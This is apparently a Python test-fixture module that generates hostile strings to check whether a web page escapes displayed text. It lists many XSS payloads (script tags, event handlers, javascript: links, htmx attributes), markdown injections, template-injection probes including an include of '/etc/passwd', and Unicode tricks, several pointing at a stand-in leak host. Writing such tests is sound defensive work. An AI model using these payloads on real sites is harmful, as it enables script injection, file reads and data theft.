"""Hostile texts for every place in which the page shows a text: what would run, leave, or look like something else."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

# What runs if a browser reads it as anything but text.
_CALL: Final = "window.__ran=1"
_FAR: Final = "http://198.51.100.7/leak"
_ELEMENTS: Final = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src='{f}'></script>",
    "<script type=module>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src='{f}'>",
    "<img srcset='{f} 1x'>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><image href='{f}'/></svg>",
    "<svg><use href='{f}#x'/></svg>",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<iframe src='{f}'></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<object data='{f}'></object>",
    "<embed src='{f}'>",
    "<link rel=stylesheet href='{f}'>",
    "<link rel=prefetch href='{f}'>",
    "<meta http-equiv=refresh content='0;url={f}'>",
    "<base href='{f}'>",
    "<style>@import '{f}';</style>",
    "<style>body{{background:url({f})}}</style>",
    "<p style='background:url({f})'>x</p>",
    "<video src='{f}' onloadstart={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "</textarea><script>{c}</script>",
    "</title><script>{c}</script>",
    "</pre></code><script>{c}</script>",
    "<body onload={c}>",
    "<form action='{f}'><button>x</button></form>",
    "<button formaction='javascript:{c}'>x</button>",
    "<a href='javascript:{c}'>x</a>",
    "<marquee onstart={c}>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><script>{c}</script>'>",
    "<!--><script>{c}</script-->",
    "<![CDATA[<script>{c}</script>]]>",
    "<x hx-get='{f}' hx-trigger='load'>",
    "<x data-hx-get='{f}' data-hx-trigger='load'>",
    "<x hx-on:load='{c}'>",
    "<x hx-on::after-init='{c}'>",
    "<x hx-vals='js:{{a:{c}}}' hx-get='/' hx-trigger='load'>",
    "<x hx-trigger='load[{c}]' hx-get='/'>",
    "<x hx-swap-oob='true' id='main'>gone</x>",
    "<hx-partial hx-target='#main'>gone</hx-partial>",
)
_MARKDOWN: Final = (
    "[x](javascript:{c})",
    "[x](JaVaScRiPt:{c})",
    "[x](java\tscript:{c})",
    "[x](&#106;avascript:{c})",
    "[x](data:text/html,<script>{c}</script>)",
    "[x](vbscript:{c})",
    "![x]({f})",
    "![x](x 'onerror={c}')",
    "[x]: javascript:{c}\n\n[x]",
    "<javascript:{c}>",
    "<{f}>",
    "[x](//198.51.100.7/leak)",
    "[![x]({f})](javascript:{c})",
    "# <script>{c}</script>",
    "| <script>{c}</script> | x |\n| --- | --- |\n| <img src=x onerror={c}> | y |",
    "```<script>\n{c}\n```",
    "```html\n</code></pre><script>{c}</script>\n```",
    "`</code><script>{c}</script>`",
    "> <script>{c}</script>",
    "- <img src=x onerror={c}>",
    '1. [x](javascript:{c} "t")',
    '<a href="javascript:{c}">x</a>',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "\\<script>{c}\\</script>",
)
_TEMPLATES: Final = (
    "{{{{ 7*7 }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{ visit.token }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{#if x}}{{/if}}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{{{{constructor.constructor('{c}')()}}}}",
)
_STRANGE: Final = (
    "\u202etxt.exe\u202c {c}",
    "\u2066\u2067{c}\u2069",
    "\u200b<\u200bscript>{c}</script>",
    "\ufeff<script>{c}</script>",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "e\u0301" * 50 + "{c}",
    "a" * 5_000 + "{c}",
    "字" * 3_000 + "<script>{c}</script>",
    "'\"><script>{c}</script>",
    "' onmouseover='{c}",
    '" autofocus onfocus="{c}',
    "`{c}`",
    "\x01\x02<script>{c}</script>",
    "\u2028<script>{c}</script>\u2029",
    "%3Cscript%3E{c}%3C/script%3E",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "javascript:{c}",
    "{f}",
)
# What stands around an element: where a careless page would put it.
_AROUND: Final = ("{}", "'>{}", '">{}', "--> {}", "Deploys go out on Tuesdays. {} And so on.")


def texts() -> Iterator[str]:
    """All of them, each once."""
    for around in _AROUND:
        for element in _ELEMENTS:
            yield around.format(_filled(element))
    for line in (*_MARKDOWN, *_TEMPLATES, *_STRANGE):
        yield _filled(line)
        yield f"Note: {_filled(line)}"


def _filled(line: str) -> str:
    return line.format(c=_CALL, f=_FAR)
